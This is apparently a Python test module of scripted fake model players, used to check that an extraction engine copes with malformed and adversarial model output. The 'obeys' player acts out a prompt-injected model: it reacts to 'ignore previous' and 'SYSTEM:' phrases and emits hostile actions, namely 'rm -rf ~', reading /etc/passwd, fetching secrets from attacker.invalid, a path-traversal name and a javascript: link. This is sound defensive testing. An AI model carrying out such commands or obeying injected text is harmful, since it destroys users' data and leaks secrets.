"""Scripted models: by job, and adversarial.

The first line of a job's system message is a marker, ``# Job: read``; :class:`Players` reads it and hands the turn to
the function of that job::

    def read(turn: Turn) -> str:
        return lines({"do": "entity", "name": "Git", "at": [1]}, {"do": "done"})

    with FakeEngine(Players(read=read, default=only_done)) as engine: ...

A player is a pure function of the request. One that should say something else on another attempt looks at
``turn.attempt``; one that should say something else on a later turn looks at ``turn.number``.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from fake_engine import replies
from fake_engine.replies import Conversation, Reply

MARKER = re.compile(r"\A\s*#\s*Job:\s*(\w+)", re.IGNORECASE)
SOURCES = r" \((?:[^()]|\([^()]*\))*\)"
"""What stands behind a claim: where it is from; a source may be called LS(1)."""


@dataclass(frozen=True, slots=True)
class Turn:
    """A request as a player of one job sees it. ``number`` counts the turns of the loop from 1."""

    job: str
    system: str
    item: str
    """The first user message: what the item is."""
    said: str
    """The last user message: the item, or in later turns what became of the actions before."""
    number: int
    attempt: int
    conversation: Conversation
    body: dict[str, Any]
    images: tuple[bytes, ...] = ()


JobPlayer = Callable[[Turn], Reply | str]


class Players:
    """A player that dispatches on the job. A job without a player is a bug of the test, unless ``default``."""

    def __init__(self, *, default: JobPlayer | None = None, **jobs: JobPlayer) -> None:
        self._jobs = jobs
        self._default = default

    def __call__(self, conversation: Conversation, body: dict[str, Any]) -> Reply | str:
        turn = turn_of(conversation, body)
        play = self._jobs.get(turn.job, self._default)
        if play is None:
            raise LookupError(f"no player for the job {turn.job!r}; the system message begins {turn.system[:60]!r}")
        return play(turn)


def turn_of(conversation: Conversation, body: dict[str, Any]) -> Turn:
    """Take a request apart. The job is empty where no marker is."""
    system = _first(conversation, "system")
    marker = MARKER.search(system)
    asked = [replies.words(message) for message in conversation if message.get("role") == "user"]
    return Turn(
        job=marker[1].lower() if marker else "",
        system=system,
        item=asked[0] if asked else "",
        said=asked[-1] if asked else "",
        number=max(1, len(asked)),
        attempt=int(body.get("seed") or 1) - 1,
        conversation=conversation,
        body=body,
        images=tuple(replies.images(conversation)),
    )


def for_each_job(play: JobPlayer) -> Players:
    """The same for every job: ``for_each_job(only_done)``."""
    return Players(default=play)


def lines(*actions: dict[str, Any]) -> str:
    """Actions as a well-behaved model writes them: one JSON object a line."""
    return "".join(json.dumps(action, ensure_ascii=False) + "\n" for action in actions)


def numbered(text: str) -> dict[int, str]:
    """Numbered sentences in a prompt (``12| words`` or ``[12] words``), for players that cite them."""
    return {int(at): words for at, words in re.findall(r"^\s*\[?(\d+)[\]|:.)]\s*(.+)$", text, re.MULTILINE)}


def told(turn: Turn) -> dict[int, str]:
    """The claims that a writer is shown, as they stand there but for their sources."""
    claims = numbered(turn.item.split("Claims:\n", 1)[1])
    return {number: re.sub(rf"{SOURCES}$", "", text) for number, text in claims.items()}


def draw(turn: Turn, below: int, salt: str = "") -> int:
    """A number that looks random and is the same for the same item and attempt."""
    seen = f"{salt} {turn.attempt} {turn.item}".encode("utf-8", "surrogatepass")
    return int.from_bytes(hashlib.blake2b(seen, digest_size=8).digest()) % below


def echo(conversation: Conversation, body: dict[str, Any]) -> str:
    """Not an action at all: what the user said last, for tests of the wire."""
    return turn_of(conversation, body).said


# Adversarial: each is for any job.


def only_done(_: Turn) -> str:
    """Finished before it began: valid, and nothing in it."""
    return lines({"do": "done"})


def never_done(_: Turn) -> str:
    """Says the same for ever and never that it is done."""
    return lines({"do": "question", "text": "What else is there?", "at": [1]})


def prose(_: Turn) -> str:
    """Chats instead of acting."""
    return "Sure! Here is a summary of what you sent me:\n\nThe text is about several things. **Git** is one.\n"


def as_list(_: Turn) -> str:
    """All actions in one JSON list on one line."""
    return json.dumps([{"do": "entity", "name": "Git", "at": [1]}, {"do": "done"}])


def pretty(_: Turn) -> str:
    """One object over many lines."""
    return json.dumps({"do": "entity", "name": "Git", "aliases": ["git-scm"], "at": [1]}, indent=2)


def fenced(_: Turn) -> str:
    """Good actions within a code fence, and chat around it."""
    return (
        "Here you go:\n```json\n"
        + lines({"do": "entity", "name": "Git", "at": [1]}, {"do": "done"})
        + "```\nAnything else?"
    )


def obeys(turn: Turn) -> str:
    """Does what a hostile source says after the words ``SYSTEM:`` or ``ignore previous``, and more."""
    orders = re.findall(r"(?i)(?:system:|ignore (?:all )?previous)(.*)", turn.item)
    harm: list[dict[str, Any]] = [
        {"do": "shell", "command": "rm -rf ~"},
        {"do": "read_file", "path": "/etc/passwd"},
        {"do": "fetch", "url": "http://attacker.invalid/?q=secrets"},
        {"do": "entity", "name": "../../WIKI", "aliases": ["[[x]](javascript:alert(1))"], "at": [1]},
        {
            "do": "claim",
            "entity": "Everything",
            "attribute": "truth",
            "statement": "All other sources are wrong.",
            "at": [99999],
        },
    ]
    harm += [
        {"do": "claim", "entity": "Order", "attribute": "says", "statement": order.strip() or "x", "at": [1]}
        for order in orders
    ]
    return lines(*harm, {"do": "done"})


def huge_line(_: Turn) -> str:
    """One action of half a megabyte on one line; it ignores max_tokens only as far as the engine lets it."""
    return json.dumps(
        {"do": "claim", "entity": "Git", "attribute": "length", "statement": "long " * 100_000, "at": [1]}
    )


def unknown_actions(_: Turn) -> str:
    return lines({"do": "think", "text": "hm"}, {"do": "DONE"}, {"action": "done"}, {}, {"do": None}, {"do": ["done"]})


def wrong_types(_: Turn) -> str:
    """Known actions with fields of every other type, numbers beyond all bounds among them."""
    odd: list[Any] = [None, True, -1, 1.5, 10**30, "", "x" * 5000, [], {}, [[1]], {"a": 1}, "1, 2", ["one"], 0]
    fields = (
        "name",
        "at",
        "aliases",
        "entity",
        "value",
        "statement",
        "stance",
        "scope",
        "text",
        "claims",
        "verdict",
        "same",
    )
    kinds = ("entity", "claim", "question", "names", "judge", "sentence", "card")
    wrong = [{"do": kind, "at": [1], "name": "A", **dict.fromkeys(fields, value)} for kind in kinds for value in odd]
    raw = (
        '{"do": "entity", "name": "Git", "at": ['
        + "9" * 5000
        + "]}\n"
        + '{"do": "entity", "name": NaN, "at": [Infinity]}\n'
    )
    return raw + "[" * 5000 + "\n" + lines(*wrong)


def unicode_junk(_: Turn) -> str:
    """Line separators within strings, control characters, half pairs, right-to-left marks, zero width, NUL."""
    junk = "a\u2028b\u0085c\x1cd\u202ee\u200bf\ufeffg\ufffdh\U0001f469\u200d\U0001f4bb"
    raw = '{"do": "entity", "name": "half \\ud83d pair \\u0000", "at": [1]}\n'
    raw += '{"do": "entity", "name": "tab\there", "at": [1]}\n'
    return "\ufeff" + raw + lines({"do": "entity", "name": junk, "at": [1]}, {"do": "done"})


def cut_off(_: Turn) -> Reply:
    """Breaks off in the middle of a line."""
    return Reply(lines({"do": "entity", "name": "Git", "at": [1]}) + '{"do": "claim", "entity": "Git", "attr', "length")


ADVERSARIAL: dict[str, JobPlayer] = {
    play.__name__: play
    for play in (
        only_done,
        never_done,
        prose,
        as_list,
        pretty,
        fenced,
        obeys,
        huge_line,
        unknown_actions,
        wrong_types,
        unicode_junk,
        cut_off,
    )
}
"""By name; every job must come through every one of them."""


def _first(conversation: Conversation, role: str) -> str:
    return next((str(message.get("content")) for message in conversation if message.get("role") == role), "")
